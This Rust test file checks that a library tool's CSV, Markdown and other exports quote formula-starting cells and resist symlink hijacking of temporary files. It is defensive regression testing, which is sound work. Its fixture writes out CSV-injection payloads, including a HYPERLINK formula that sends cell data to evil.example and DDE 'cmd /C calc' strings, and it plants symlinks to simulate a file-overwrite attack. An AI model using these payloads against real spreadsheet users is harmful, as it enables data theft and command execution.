//! Exports facing hostile content and a hostile file system (issue 14.4,
//! 14.7): spreadsheet-safe CSV cells, temporary files that cannot be
//! hijacked and never outlive the export, and a CSV pair that appears
//! together or not at all. Real files, a real library, no mocks.

mod harness;

use std::path::Path;
use std::sync::atomic::AtomicBool;

use litopys_core::export::csv::{spreadsheet_safe, ANNOTATION_COLUMNS, ARTICLE_COLUMNS};
use litopys_core::export::{export, ExportOptions, ExportTotals, Format, Selection};
use litopys_core::import::ImportOptions;
use litopys_core::store::annotations::{self, Target};
use litopys_core::store::{articles, tags};
use litopys_core::{Error, Library};

/// Cell starts a spreadsheet reads as a formula (OWASP "CSV injection").
const PAYLOADS: [&str; 8] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"Натисніть\")",
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 після табуляції",
    "\r=1+1 після CR",
    "  =1+1 після пробілів",
];

/// Cell kinds no spreadsheet treats as a formula, wherever they came from.
fn is_formula(cell: &str) -> bool {
    cell.starts_with(['\t', '\r', '\0'])
        || cell
            .trim_start()
            .starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠'])
}

struct Fixture {
    dir: tempfile::TempDir,
    lib: Library,
    /// Stable ids of the hostile articles.
    hostile: Vec<String>,
}

/// One article per payload, the payload opening its title, source, author,
/// url and text; each annotated with the payload as quote and note, and
/// tagged with a tag starting with `@`.
fn fixture() -> Fixture {
    let (dir, mut lib) = harness::temp_library();
    let jsonl = dir.path().join("hostile.jsonl");
    let mut lines = String::new();
    for (i, p) in PAYLOADS.iter().enumerate() {
        let text = format!("{p} {i}\n\nДипломати зустрілися в Женеві вже {i}-й раз.");
        lines.push_str(
            &serde_json::json!({
                "title": format!("{p} заголовок {i}"),
                "text": text,
                "source": format!("{p} джерело"),
                "author": format!("{p} автор"),
                "url": format!("{p}https://evil.example/{i}"),
                "date": "2024-03-0{i}",
            })
            .to_string(),
        );
        lines.push('\n');
    }
    std::fs::write(&jsonl, lines).unwrap();
    let (totals, items) = harness::import(&mut lib, &[jsonl], &ImportOptions::default());
    assert_eq!(totals.imported, PAYLOADS.len() as u64, "{items:?}");
    let hostile: Vec<String> = items.iter().filter_map(|i| i.id.clone()).collect();
    let internal = tags::article_ids(lib.conn(), &hostile).unwrap();
    tags::add(lib.conn_mut(), "@team=1+1", &internal).unwrap();
    for id in &hostile {
        let body = articles::get(lib.conn(), id).unwrap().body;
        let first = body.lines().next().unwrap().trim().to_owned();
        let target = Target::Quote {
            text: first.clone(),
            occurrence: 1,
        };
        annotations::create(lib.conn_mut(), id, &target, &first, None, &["@note".into()]).unwrap();
    }
    Fixture { dir, lib, hostile }
}

fn run(lib: &Library, format: Format, output: &Path, options: ExportOptions) -> ExportTotals {
    export(
        lib.conn(),
        &Selection::Query(String::new()),
        format,
        output,
        options,
        &AtomicBool::new(false),
        &mut |_, _| {},
    )
    .unwrap()
}

/// Rows of a CSV we wrote, without the byte-order mark.
fn read_csv(path: &Path) -> (Vec<String>, Vec<Vec<String>>) {
    let bytes = std::fs::read(path).unwrap();
    let body = bytes.strip_prefix("\u{feff}".as_bytes()).unwrap();
    let mut r = csv::Reader::from_reader(body);
    let head = r.headers().unwrap().iter().map(str::to_owned).collect();
    let rows = r
        .records()
        .map(|rec| rec.unwrap().iter().map(str::to_owned).collect())
        .collect();
    (head, rows)
}

fn column(head: &[String], name: &str) -> usize {
    head.iter().position(|h| h == name).unwrap()
}

/// Files in `dir` other than the library and the test's own input.
fn leftovers(dir: &Path) -> Vec<String> {
    let mut names: Vec<String> = std::fs::read_dir(dir)
        .unwrap()
        .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
        .filter(|n| !n.starts_with("test.litopys") && n != "hostile.jsonl" && n != "many.jsonl")
        .collect();
    names.sort();
    names
}

// Regression (issue 14.4): CSV cells beginning with =, +, -, @, TAB or CR were written as they are.
#[test]
fn csv_cells_that_a_spreadsheet_would_run_get_a_leading_quote() {
    let f = fixture();
    let out = f.dir.path().join("out/articles.csv");
    std::fs::create_dir(f.dir.path().join("out")).unwrap();
    let totals = run(&f.lib, Format::Csv, &out, ExportOptions::default());
    assert_eq!(totals.articles, PAYLOADS.len() as u64);

    let (head, rows) = read_csv(&out);
    assert_eq!(rows.len(), PAYLOADS.len());
    let mut quoted = 0;
    for row in &rows {
        let stored = articles::get(f.lib.conn(), &row[column(&head, "id")]).unwrap();
        let expect = [
            ("title", stored.title.clone()),
            ("source", stored.source.clone().unwrap()),
            ("author", stored.author.clone().unwrap()),
            ("url", stored.url.clone().unwrap()),
            ("text", stored.body.clone()),
            ("tags", "@team=1+1".to_owned()),
        ];
        for (name, value) in expect {
            let cell = &row[column(&head, name)];
            if is_formula(&value) {
                assert_eq!(cell, &format!("'{value}"), "column {name}");
                quoted += 1;
            } else {
                assert_eq!(cell, &value, "column {name}");
            }
        }
        for (name, cell) in ARTICLE_COLUMNS.iter().zip(row) {
            assert!(!is_formula(cell), "column {name}: {cell:?}");
        }
        // A count is a number we wrote, never quoted.
        assert_eq!(row[column(&head, "annotations")], "1");
    }
    // Title, source, author, url, text and tags of every payload were at risk
    // as stored (the importer may trim a leading TAB or space of a title).
    assert!(quoted >= 3 * PAYLOADS.len(), "only {quoted} cells quoted");

    let (head, notes) = read_csv(&out.with_file_name("articles.annotations.csv"));
    assert_eq!(head, ANNOTATION_COLUMNS);
    assert_eq!(notes.len(), PAYLOADS.len());
    for row in &notes {
        for (name, cell) in ANNOTATION_COLUMNS.iter().zip(row) {
            assert!(!is_formula(cell), "annotation column {name}: {cell:?}");
        }
        for name in ["quote", "note", "tags"] {
            assert!(
                row[column(&head, name)].starts_with('\''),
                "{name}: {row:?}"
            );
        }
        // Offsets are numbers we wrote, never quoted.
        assert!(
            row[column(&head, "start")].parse::<usize>().is_ok(),
            "{row:?}"
        );
    }
}

#[test]
fn raw_csv_writes_every_cell_exactly_as_stored() {
    let f = fixture();
    let out = f.dir.path().join("raw.csv");
    let options = ExportOptions {
        raw_csv: true,
        ..Default::default()
    };
    run(&f.lib, Format::Csv, &out, options);
    let (head, rows) = read_csv(&out);
    let mut formulas = 0;
    for row in &rows {
        let stored = articles::get(f.lib.conn(), &row[column(&head, "id")]).unwrap();
        assert_eq!(row[column(&head, "title")], stored.title);
        assert_eq!(row[column(&head, "text")], stored.body);
        assert_eq!(row[column(&head, "url")], stored.url.unwrap());
        formulas += row.iter().filter(|c| is_formula(c)).count();
    }
    assert!(formulas >= 3 * PAYLOADS.len(), "only {formulas} raw cells");
    let (head, notes) = read_csv(&out.with_file_name("raw.annotations.csv"));
    assert!(notes.iter().all(|n| n[column(&head, "tags")] == "@note"));
}

#[test]
fn spreadsheet_safe_quotes_formula_starts_only() {
    for p in PAYLOADS {
        assert_eq!(spreadsheet_safe(p), format!("'{p}"), "{p:?}");
    }
    for p in ["＝1+1", "\u{0}=1", "\n\n=1+1"] {
        assert_eq!(spreadsheet_safe(p), format!("'{p}"), "{p:?}");
    }
    for p in [
        "Київ = столиця",
        "'=already quoted",
        "",
        "100",
        "e-mail: x@y",
    ] {
        assert_eq!(spreadsheet_safe(p), p, "{p:?}");
    }
}

// Regression (issue 14.7): the export followed a symlink planted at its
// predictable temporary name `.NAME.part`, overwriting the symlink's target.
#[cfg(unix)]
#[cfg(unix)]
#[test]
fn a_symlink_planted_at_the_old_temporary_name_is_not_followed() {
    let f = fixture();
    let victim = f.dir.path().join("victim.txt");
    std::fs::write(&victim, "не чіпати").unwrap();
    for name in ["report.csv", "report.annotations.csv", "report.md"] {
        std::os::unix::fs::symlink(&victim, f.dir.path().join(format!(".{name}.part"))).unwrap();
    }
    run(
        &f.lib,
        Format::Csv,
        &f.dir.path().join("report.csv"),
        ExportOptions::default(),
    );
    run(
        &f.lib,
        Format::Markdown,
        &f.dir.path().join("report.md"),
        ExportOptions::default(),
    );
    assert_eq!(std::fs::read_to_string(&victim).unwrap(), "не чіпати");
    assert!(std::fs::read_to_string(f.dir.path().join("report.md"))
        .unwrap()
        .contains("заголовок"));
    // The planted links are left as they were: not ours to remove.
    assert!(
        std::fs::symlink_metadata(f.dir.path().join(".report.csv.part"))
            .unwrap()
            .file_type()
            .is_symlink()
    );
}

// Regression (issue 14.7): when the annotations file could not be written,
// the articles CSV was left behind alone.
#[test]
fn csv_pair_appears_together_or_not_at_all() {
    let f = fixture();
    let out = f.dir.path().join("pair.csv");
    let blocker = f.dir.path().join("pair.annotations.csv");
    std::fs::create_dir(&blocker).unwrap();
    let err = export(
        f.lib.conn(),
        &Selection::Query(String::new()),
        Format::Csv,
        &out,
        ExportOptions::default(),
        &AtomicBool::new(false),
        &mut |_, _| {},
    )
    .unwrap_err();
    assert!(matches!(err, Error::Io { .. }), "{err:?}");
    assert!(err.to_string().contains("pair.annotations.csv"), "{err}");
    assert!(!out.exists());
    assert!(blocker.is_dir() && std::fs::read_dir(&blocker).unwrap().next().is_none());
    assert_eq!(leftovers(f.dir.path()), ["pair.annotations.csv"]);
}

#[test]
fn a_pair_that_cannot_be_replaced_puts_the_previous_files_back() {
    let mut f = fixture();
    let out = f.dir.path().join("old.csv");
    let notes = f.dir.path().join("old.annotations.csv");
    let replace = ExportOptions {
        force: true,
        ..Default::default()
    };
    run(&f.lib, Format::Csv, &out, replace);
    let before = (std::fs::read(&out).unwrap(), std::fs::read(&notes).unwrap());
    // Change the library, then make the second file impossible to place.
    let first = tags::article_ids(f.lib.conn(), &f.hostile[..1]).unwrap();
    tags::add(f.lib.conn_mut(), "нове", &first).unwrap();
    std::fs::remove_file(&notes).unwrap();
    std::fs::create_dir(&notes).unwrap();
    let err = export(
        f.lib.conn(),
        &Selection::Query(String::new()),
        Format::Csv,
        &out,
        replace,
        &AtomicBool::new(false),
        &mut |_, _| {},
    )
    .unwrap_err();
    assert!(err.to_string().contains("old.annotations.csv"), "{err}");
    assert_eq!(
        std::fs::read(&out).unwrap(),
        before.0,
        "old articles CSV restored"
    );
    assert_eq!(leftovers(f.dir.path()), ["old.annotations.csv", "old.csv"]);
    // With the way clear, both files are replaced.
    std::fs::remove_dir(&notes).unwrap();
    std::fs::write(&notes, &before.1).unwrap();
    run(&f.lib, Format::Csv, &out, replace);
    assert!(String::from_utf8(std::fs::read(&out).unwrap())
        .unwrap()
        .contains("нове"));
    assert_eq!(leftovers(f.dir.path()), ["old.annotations.csv", "old.csv"]);
}

// Regression (issue 14.7): an error part-way through left `.part` files.
#[test]
fn an_error_mid_export_leaves_no_file() {
    let (dir, mut lib) = harness::temp_library();
    // More articles than one read chunk (256), so rows are already written
    // when the damaged one is read.
    let jsonl = dir.path().join("many.jsonl");
    let lines: String = (0..300)
        .map(|i| {
            serde_json::json!({"title": format!("Новина {i}"), "text": format!("Текст новини номер {i}.")})
                .to_string()
                + "\n"
        })
        .collect();
    std::fs::write(&jsonl, lines).unwrap();
    let (totals, _) = harness::import(&mut lib, &[jsonl], &ImportOptions::default());
    assert_eq!(totals.imported, 300);
    for format in [Format::Csv, Format::Jsonl, Format::Markdown, Format::Zip] {
        let out = dir.path().join(format!("broken.{}", format.extension()));
        // A copy of the library, damaged by another connection part-way
        // through the export: the next chunk of articles cannot be read.
        let copy = dir
            .path()
            .join(format!("test.litopys.{}", format.extension()));
        lib.conn()
            .execute("VACUUM INTO ?1", [copy.to_string_lossy()])
            .unwrap();
        let reader = Library::open(&copy).unwrap();
        let mut seen = 0;
        let result = export(
            reader.conn(),
            &Selection::Query(String::new()),
            format,
            &out,
            ExportOptions::default(),
            &AtomicBool::new(false),
            &mut |done, _| {
                seen = done;
                if done == 10 {
                    let other = rusqlite::Connection::open(&copy).unwrap();
                    other.execute_batch("DROP TABLE article_tags").unwrap();
                }
            },
        );
        assert!(result.is_err(), "{format:?}: {result:?}");
        assert_eq!(
            seen, 256,
            "{format:?}: failed after {seen} articles, not mid-way"
        );
        assert_eq!(leftovers(dir.path()), Vec::<String>::new(), "{format:?}");
    }
}

#[test]
fn a_cancelled_export_leaves_no_file_and_success_leaves_only_its_own() {
    let f = fixture();
    for format in [
        Format::Csv,
        Format::Html,
        Format::W3c,
        Format::RefiQda,
        Format::Zip,
    ] {
        let out = f.dir.path().join(format!("c.{}", format.extension()));
        let totals = export(
            f.lib.conn(),
            &Selection::Query(String::new()),
            format,
            &out,
            ExportOptions::default(),
            &AtomicBool::new(true),
            &mut |_, _| {},
        )
        .unwrap();
        assert!(totals.cancelled && totals.files.is_empty(), "{format:?}");
        assert_eq!(leftovers(f.dir.path()), Vec::<String>::new(), "{format:?}");
    }
    let totals = run(
        &f.lib,
        Format::Csv,
        &f.dir.path().join("ok.csv"),
        ExportOptions::default(),
    );
    assert_eq!(leftovers(f.dir.path()), ["ok.annotations.csv", "ok.csv"]);
    assert_eq!(totals.files.len(), 2);
}

// A kill -9 cannot be caught: the temporary file it leaves is removed by the
// next export to the same name once it is old; a recent one (an export that
// may still be running) and a symlink are left alone.
#[test]
fn the_next_export_removes_old_temporary_files_a_killed_export_left() {
    let f = fixture();
    let out = f.dir.path().join("report.md");
    let old = f.dir.path().join(".report.md.0123456789abcdef.part");
    let recent = f.dir.path().join(".report.md.fedcba9876543210.part");
    let other = f.dir.path().join(".other.md.0123456789abcdef.part");
    for p in [&old, &recent, &other] {
        std::fs::write(p, "half an export").unwrap();
    }
    let day_ago = std::time::SystemTime::now() - std::time::Duration::from_secs(24 * 3600);
    for p in [&old, &other] {
        std::fs::File::options()
            .write(true)
            .open(p)
            .unwrap()
            .set_modified(day_ago)
            .unwrap();
    }
    run(&f.lib, Format::Markdown, &out, ExportOptions::default());
    assert!(out.exists());
    assert!(!old.exists(), "stale temporary file of this export removed");
    assert!(
        recent.exists(),
        "a recent one may belong to a running export"
    );
    assert!(other.exists(), "another destination's file is not ours");
}
